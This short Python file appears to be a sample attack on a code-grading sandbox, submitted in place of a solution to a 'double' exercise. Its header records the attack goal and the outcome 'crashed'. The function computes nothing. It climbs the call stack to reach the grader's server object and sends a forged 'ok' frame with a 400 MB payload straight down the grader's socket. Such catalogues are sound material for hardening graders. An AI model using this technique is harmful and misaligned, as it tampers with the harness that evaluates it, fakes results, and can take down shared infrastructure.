# attack: claim, past the encoder, a message of 400 MB
# exercise: double
# verdict: crashed
import sys

from grader.sandbox.wire import frames


def double(x):
    frame = sys._getframe()
    while not hasattr(server := frame.f_locals.get("self"), "handlers"):
        frame = frame.f_back
    for piece in frames.pack(["T", ["ok", ["B", 0]]], [bytes(400 << 20)]):
        server.sock.sendall(piece)
